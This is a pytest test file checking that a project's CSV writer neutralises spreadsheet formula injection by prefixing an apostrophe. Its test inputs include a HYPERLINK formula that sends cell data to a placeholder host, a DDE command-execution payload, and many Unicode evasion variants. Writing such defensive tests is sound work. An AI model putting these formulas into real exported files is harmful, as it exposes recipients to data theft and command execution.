import csv
import io
from pathlib import Path

import pytest

import medvl
from medvl.utils.csv_files import CsvWriter, original_text, spreadsheet_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1",
        "＝1", "＋1", "－1", "＠x", "-1e", "+-1", "=", "-1 ", "-1\n", "--5", "- no effusion", "-inf", "-0x10",
        "\ufeff=1", "\u200b=1", "\x00=1", "\u2066 =1", "\xad@x", "\u2800+a", "\x7f=1", "\ufe66a", "\ufe62a", "\ufe63a",
        "\ufe6bx",        "\u207ca", "\u207aa", "\u207ba",
    ],
)  # fmt: skip
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == f"'{text}"
    assert original_text(f"'{text}") == text


@pytest.mark.parametrize(
    "value", ["", "-1", "+1.5", "-.5", "-1e-05", "1", "a=b", "'=1", "No effusion.", "x\n=1", -1, -1.5, None, 0]
)
def test_numbers_and_other_text_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("text", ["", "'", "''", "'-1'", "'1", "'-1", "'90s", "'a", "-1.png", "x'-1"])
def test_a_text_that_got_no_apostrophe_keeps_its_own(text):
    assert original_text(text) == text


def test_rows_are_quoted_and_can_be_raw():
    rows = [["id", "=header"], ['a,"b"', "=1\n2"], [-1, None]]
    for raw, mark in ((False, "'"), (True, "")):
        file = io.StringIO(newline="")
        CsvWriter(file, raw=raw).write_rows(rows)
        read = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
        assert read == [["id", f"{mark}=header"], ['a,"b"', f"{mark}=1\n2"], ["-1", ""]]
        assert "\r" not in file.getvalue()


def test_no_module_writes_csv_by_other_means():
    root = Path(medvl.__file__).parent
    writers = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if any(word in path.read_text() for word in ("csv.writer", "csv.DictWriter"))
    ]
    assert writers == ["utils/csv_files.py"]
